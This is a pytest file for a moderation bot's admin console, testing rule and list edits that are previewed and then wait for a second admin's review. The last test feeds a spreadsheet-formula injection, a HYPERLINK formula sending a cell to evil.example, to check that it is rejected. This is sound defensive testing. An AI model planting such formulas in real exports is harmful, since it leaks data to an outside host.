"""An admin changes a list or a rule: the effect is shown first, and what is saved waits for a second admin."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest
import yaml

from bot.files import Files
from bot.store import RevisionState, TextKind
from tests.fakes.office import ABUSE, FAIR, RUDE, THREAT, write_files

if TYPE_CHECKING:
    from pathlib import Path

    import httpx

    from bot.store import Revision
    from tests.review.console.conftest import Console

INSULT = "/rules/rule/made-up-insult/change"
DANGER = "/rules/rule/made-up-threat/change"
PEST = "/rules/lists/en/pest/change"
PACK = """\
# Heard at the by-election.
lang: en
lists:
  pest: [gnat, wasp]  # and the like
rules:
  - id: called-a-pest
    policy: personal_abuse
    severity: 2
    phrases: ["you {pest}"]
    matches: [you gnat]
    ignores: [a tick]
"""


@pytest.fixture
def files(tmp_path: Path) -> Files:
    """Files of this test's own, since what goes live is written to them."""
    return Files.read(write_files(tmp_path / "files"))


@pytest.fixture(autouse=True)
async def started(console: Console) -> None:
    """What is in the files is live."""
    await console.texts.start()


async def with_pests(console: Console) -> None:
    """A second file of the party's own, with a list."""
    path = console.office.files.loaded.path.parent / "packs" / "pest.yaml"
    path.write_text(PACK, encoding="utf-8")
    assert isinstance(await console.texts.reload(by="mara"), tuple)


async def effect_of(browser: httpx.AsyncClient, path: str, **typed: str) -> tuple[str, dict[str, str]]:
    """The page that shows the effect, and what its form would post next."""
    answer = await browser.post(path, data=typed)
    assert answer.status_code == 200, answer.text
    digest = re.search(r'name="shown" value="(\w+)"', answer.text)
    assert digest is not None
    return answer.text, {**typed, "shown": digest[1]}


async def drafts(console: Console) -> list[Revision]:
    return list((await console.office.store.revisions.drafts(TextKind.RULES)).values())


async def test_words_for_a_list_show_whom_they_would_flag_before_anything_is_kept(console: Console) -> None:
    await with_pests(console)
    said = console.office.network.say
    await console.office.receive(said("You tick, all of you."), said("You wasp!"), said(FAIR))
    async with console.signed_in("mara") as browser:
        page, _ = await effect_of(browser, PEST, add="tick", take_out="wasp")
    assert "Every example of every rule holds." in page
    assert "1 rule reads otherwise." in page
    assert re.search(r"Newly flagged</dt><dd>1<", page)
    assert re.search(r"No longer flagged</dt><dd>1<", page)
    assert "<mark>You tick</mark>" in page
    assert "ignore → respond" in page
    assert await drafts(console) == []


async def test_own_list_is_saved_into_its_own_file_with_its_comments_and_waits_for_another_admin(
    console: Console,
) -> None:
    await with_pests(console)
    async with console.signed_in("mara") as browser:
        _, form = await effect_of(browser, PEST, add="tick")
        page = await browser.post(
            PEST, data={**form, "why": "Two people were called that.", "press": "save"}, follow_redirects=True
        )
        assert "Saved as a draft." in page.text
        assert "You wrote it. It goes live when another admin has reviewed it." in page.text
    (draft,) = await drafts(console)
    assert draft.name == "packs/pest.yaml"
    assert draft.text == PACK.replace("[gnat, wasp]  #", "[gnat, wasp, tick] #")
    assert (draft.written_by, draft.why) == ("mara", "Two people were called that.")


async def test_second_admin_makes_it_live_and_the_running_bot_judges_by_it(console: Console) -> None:
    await with_pests(console)
    async with console.signed_in("mara") as browser:
        _, form = await effect_of(browser, PEST, add="tick")
        await browser.post(PEST, data={**form, "why": "Heard it.", "press": "save"})
    (draft,) = await drafts(console)
    async with console.signed_in("ada") as browser:
        page = await browser.post(f"/rules/changes/{draft.id}/review", follow_redirects=True)
        assert "Live from now on." in page.text
        judged = await browser.post("/rules/try", data={"text": "You tick."})
        assert "Verdict: respond." in judged.text
    file = console.office.files.loaded.path.parent / "packs" / "pest.yaml"
    assert "tick" in file.read_text(encoding="utf-8")


async def test_what_was_changed_after_its_effect_was_shown_is_shown_again_first(console: Console) -> None:
    await with_pests(console)
    async with console.signed_in("mara") as browser:
        _, form = await effect_of(browser, PEST, add="tick")
        answer = await browser.post(PEST, data={**form, "add": "midge", "why": "Heard it.", "press": "save"})
    assert answer.status_code == 422
    assert "Look at the effect again, then save." in answer.text
    assert ">midge</textarea>" in answer.text
    assert await drafts(console) == []


async def test_a_change_without_a_reason_is_not_kept_and_nothing_typed_is_lost(console: Console) -> None:
    await with_pests(console)
    async with console.signed_in("mara") as browser:
        _, form = await effect_of(browser, PEST, add="tick")
        answer = await browser.post(PEST, data={**form, "press": "save"})
    assert answer.status_code == 422
    assert "Say in a sentence why" in answer.text
    assert ">tick</textarea>" in answer.text


async def test_a_word_that_breaks_an_example_is_not_saved(console: Console) -> None:
    await with_pests(console)
    async with console.signed_in("mara") as browser:
        page, form = await effect_of(browser, PEST, take_out="gnat")
        assert "1 example would be judged wrongly." in page
        assert "should hold for its example 1 but does not" in page
        assert 'value="save"' not in page
        answer = await browser.post(PEST, data={**form, "why": "x", "press": "save"})
    assert answer.status_code == 422
    assert await drafts(console) == []


async def test_a_rule_is_turned_to_shadow_by_a_file_of_the_console_s(console: Console) -> None:
    await console.office.receive(console.office.network.say(ABUSE))
    async with console.signed_in("mara") as browser:
        page, form = await effect_of(browser, INSULT, state="shadow")
        assert re.search(r"No longer flagged</dt><dd>1<", page)
        await browser.post(INSULT, data={**form, "why": "Too wide.", "press": "save"})
    (draft,) = await drafts(console)
    assert draft.name == "console-rules/rule-made-up-insult.yaml"
    said = {"lang": "en", "amended": {"made-up-insult": {"state": "shadow", "why": "Too wide."}}}
    assert yaml.safe_load(draft.text) == said
    async with console.signed_in("ada") as browser:
        await browser.post(f"/rules/changes/{draft.id}/review")
        assert "· shadow ·" in (await browser.get("/rules/rule/made-up-insult")).text
        assert 'value="shadow" selected' in (await browser.get(INSULT)).text
    path = console.office.files.loaded.path.parent / draft.name
    assert "made-up-insult" in path.read_text(encoding="utf-8")


async def test_a_rule_about_danger_is_turned_down_only_when_it_is_confirmed_and_said_why(console: Console) -> None:
    await console.office.receive(console.office.network.say(THREAT))
    async with console.signed_in("mara") as browser:
        page, form = await effect_of(browser, DANGER, state="off", why="It rings for dogs.")
        assert "It weakens 1 rule that guards people against danger" in page
        answer = await browser.post(DANGER, data={**form, "press": "save"})
        assert answer.status_code == 422
        assert "Tick below that you mean it" in answer.text
        assert await drafts(console) == []
        await browser.post(DANGER, data={**form, "danger": "true", "press": "save"})
    (draft,) = await drafts(console)
    assert draft.state is RevisionState.DRAFT


async def test_a_rule_about_danger_without_a_reason_cannot_even_be_tried_off(console: Console) -> None:
    async with console.signed_in("mara") as browser:
        page = (await browser.post(DANGER, data={"state": "off"})).text
    assert "guards people against danger: say why it is turned down" in page
    assert '<label>Why <input name="why"' in page


async def test_effect_says_nothing_of_the_safety_desks_texts_to_other_admins(console: Console) -> None:
    await console.office.receive(console.office.network.say("I will zark you at Kestrel Lane."))
    told = []
    async with console.signed_in("mara") as browser:
        for word in ("kestrel", "sparrow"):
            page, _ = await effect_of(browser, DANGER, unless=word, why="It rings for birds.")
            told.append("No longer flagged" in page)
            assert "zark" not in page.partition('id="effect"')[2].partition("</section>")[0]
    assert told == [False, False]


async def test_a_mistake_on_a_case_leads_to_a_near_miss_without_names_for_its_rule(console: Console) -> None:
    case = await console.office.opened("@jo@b.example you florp, says Mary Ann Jones of https://b.example/1")
    async with console.signed_in("mara") as browser:
        page = (await browser.get(f"/case/{case.id}/mistake", follow_redirects=True)).text
    assert "A near miss from <a" in page
    assert "@somebody@example.org you florp, says somebody of https://example.org</textarea>" in page
    assert f'name="case" value="{case.id}"' in page


async def test_the_page_of_a_case_leads_an_admin_there_and_nobody_else(console: Console) -> None:
    case = await console.office.opened(ABUSE)
    for person, led in (("mara", True), ("tom", False), ("wyn", False)):
        async with console.signed_in(person) as browser:
            page = (await browser.get(f"/case/{case.id}")).text
        assert (f'href="/case/{case.id}/mistake"' in page) is led


async def test_a_proposal_whose_rule_still_holds_says_so_and_may_be_kept_waiting(console: Console) -> None:
    case = await console.office.opened(ABUSE)
    async with console.signed_in("mara") as browser:
        page, form = await effect_of(browser, INSULT, near_misses=ABUSE, case=case.id)
        assert "1 example would be judged wrongly. It cannot go live before that is mended." in page
        await browser.post(INSULT, data={**form, "why": "It was a joke among friends.", "press": "keep"})
    (draft,) = await drafts(console)
    assert draft.case_id == case.id
    async with console.signed_in("ada") as browser:
        answer = await browser.post(f"/rules/changes/{draft.id}/review")
        assert answer.status_code == 422
        assert "should not hold for its near miss" in answer.text
        page = (await browser.get(f"/rules/changes/{draft.id}")).text
        assert f'It came from a mistake on <a href="/case/{case.id}">' in page


async def test_a_proposal_goes_live_with_a_phrase_that_excuses_it(console: Console) -> None:
    case = await console.office.opened(ABUSE)
    async with console.signed_in("mara") as browser:
        page, form = await effect_of(browser, INSULT, near_misses=ABUSE, unless="the lot of you", case=case.id)
        assert "Every example of every rule holds." in page
        answer = await browser.post(
            INSULT, data={**form, "why": "Said in jest.", "press": "save"}, follow_redirects=True
        )
        assert "Saved as a draft." in answer.text


async def test_a_case_in_which_several_rules_held_asks_which_was_mistaken(console: Console) -> None:
    case = await console.office.opened(f"{ABUSE} {RUDE}")
    async with console.signed_in("mara") as browser:
        page = (await browser.get(f"/case/{case.id}/mistake", follow_redirects=True)).text
    assert "Which of them should have left the post alone?" in page
    assert "made-up-rudeness/change?case=" in page


async def test_only_admins_change_and_everybody_else_is_told_who_does(console: Console) -> None:
    case = await console.office.opened(ABUSE)
    for person in ("tom", "wyn", "nadia", "rosa"):
        async with console.signed_in(person) as browser:
            for answer in (
                await browser.get(INSULT),
                await browser.post(INSULT, data={"state": "off"}),
                await browser.get(PEST),
                await browser.post(PEST, data={"add": "x"}),
                await browser.get(f"/case/{case.id}/mistake"),
            ):
                assert answer.status_code == 403, answer.text
            assert "Change it" not in (await browser.get("/rules/rule/made-up-insult")).text


async def test_a_state_from_the_configuration_is_changed_there(
    console: Console, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(console.texts.files.config.rules.states, "made-up-insult", "off")
    async with console.signed_in("mara") as browser:
        assert "config.yaml says its state, under rules.states." in (await browser.get(INSULT)).text
        answer = await browser.post(INSULT, data={"state": "live"})
    assert answer.status_code == 422
    assert "config.yaml says its state" in answer.text
    assert await drafts(console) == []


async def test_a_draft_that_waits_is_named_and_what_is_saved_next_takes_its_place(console: Console) -> None:
    await with_pests(console)
    async with console.signed_in("mara") as browser:
        _, form = await effect_of(browser, PEST, add="tick")
        await browser.post(PEST, data={**form, "why": "Heard it.", "press": "save"})
    async with console.signed_in("ada") as browser:
        assert "A draft by Mara Bright waits: “Heard it.”" in (await browser.get(PEST)).text
        _, form = await effect_of(browser, PEST, add="midge")
        await browser.post(PEST, data={**form, "why": "That too.", "press": "save"})
    (draft,) = await drafts(console)
    assert "[gnat, wasp, tick, midge]" in draft.text


async def test_exception_that_would_take_too_long_on_some_texts_is_not_saved(console: Console) -> None:
    async with console.signed_in("mara") as browser:
        wide = "ab {up to 9} cd {up to 9} ef {up to 9} gh"
        page, form = await effect_of(browser, INSULT, unless=wide, near_misses="you florp ab cd ef gh")
        assert "can be filled in 1,000 ways" in page
        answer = await browser.post(INSULT, data={**form, "why": "Heard it.", "press": "save"})
        assert "can be filled in 1,000 ways" in answer.text
    assert await drafts(console) == []


@pytest.mark.parametrize("word", ['=HYPERLINK("https://evil.example/?"&A2,"gnat")', "+gnat", "gn\u200bat", "{nothing}"])
async def test_word_that_no_file_may_bring_cannot_be_typed_either(console: Console, word: str) -> None:
    await with_pests(console)
    async with console.signed_in("mara") as browser:
        for press in ("effect", "save", "keep"):
            answer = await browser.post(PEST, data={"add": f"tick\n{word}", "why": "Heard it.", "press": press})
            assert "cannot stand on a list:" in answer.text
    assert await drafts(console) == []
